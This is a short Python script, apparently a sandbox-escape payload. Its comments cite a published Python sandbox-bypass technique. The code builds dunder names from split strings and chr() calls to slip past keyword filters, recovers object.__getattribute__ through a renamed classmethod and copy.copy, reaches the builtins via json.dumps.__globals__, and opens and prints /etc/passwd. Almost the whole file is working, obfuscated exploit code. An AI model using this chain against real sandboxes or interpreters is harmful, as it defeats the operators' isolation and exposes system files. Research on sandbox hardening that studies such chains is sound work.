# source: pickle/__reduce__ family (HackTricks "Bypass Python sandboxes"); CPython's method.__reduce__
#         url: https://github.com/python/cpython/issues/93889 ; https://github.com/python/cpython/issues/81478
#         = (getattr, (obj, func.__name__)) replayed by copy.copy.
# family: `f.__name__ = <run-time string>` (an allowed dunder) -> classmethod bound to the script's class
#         -> copy.copy (copy module reached as ident(dataclasses).copy) -> getattr(C, "__getattribute__")
#         -> object.__getattribute__ = getattr with run-time names on any object.
# goal: json.dumps.__globals__['__builtins__']['open'] -> reads /etc/passwd.
import dataclasses
import json


def ident(m):
    return m


u = chr(95) * 2


def k(*args, **kwargs):
    return None


k.__name__ = u + "getattri" + "bute" + u


class C:
    kk = classmethod(k)


ga = ident(dataclasses).copy.copy(C().kk)
print(ga)
g = ga(json.dumps, u + "glob" + "als" + u)
fo = g[u + "buil" + "tins" + u]["op" + "en"]
print(fo(chr(47) + "etc" + chr(47) + "passwd").read())
